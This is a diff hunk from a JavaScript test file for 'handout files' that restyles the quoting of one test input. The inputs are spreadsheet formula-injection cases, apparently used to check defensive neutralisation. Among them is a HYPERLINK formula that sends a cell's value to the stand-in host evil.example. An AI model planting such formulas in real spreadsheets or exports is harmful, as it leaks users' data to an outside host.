@@ -71,7 +71,7 @@ describe("handout files", () => {
   });
 
   test.each([
-    ["=HYPERLINK(\"https://evil.example/?\"&E3,\"notes\")"],
+    ['=HYPERLINK("https://evil.example/?"&E3,"notes")'],
     ["+1+1"],
     ["-2+3"],
     ["@SUM(A1:A2)"],
